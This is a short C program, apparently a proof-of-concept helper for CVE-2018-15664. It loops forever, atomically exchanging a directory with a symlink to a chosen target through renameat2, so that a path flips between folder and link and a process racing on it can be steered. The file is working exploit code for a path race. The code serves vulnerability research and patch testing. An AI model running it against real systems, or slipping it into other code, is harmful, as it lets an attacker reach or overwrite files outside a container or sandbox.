/*
 * swap.c - CVE-2018-15664: a folder that is a link at the wrong moment
 *
 *     swap DIR TARGET     makes DIR now a folder with a file `f`, now a link to TARGET,
 *                         by atomic exchange, until killed
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	char other[256];

	if (argc != 3)
		return 2;
	snprintf(other, sizeof other, "%s.other", argv[1]);
	mkdir(argv[1], 0755);
	if (symlink(argv[2], other) < 0)
		return 1;
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, other, 2) < 0)
			return 1;
}
